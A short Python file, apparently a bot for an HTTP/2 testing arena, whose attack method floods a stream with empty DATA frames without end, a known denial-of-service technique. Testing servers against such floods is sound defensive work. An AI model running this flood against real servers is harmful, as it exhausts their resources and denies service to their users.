"""Sends DATA frames that hold nothing, without end."""

from rawhttp2 import DATA, RawBot, frame

from arenabot.v1 import player_pb2 as player


class EmptyDataFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(DATA, stream=self.stream))


if __name__ == "__main__":
    EmptyDataFlood().serve()
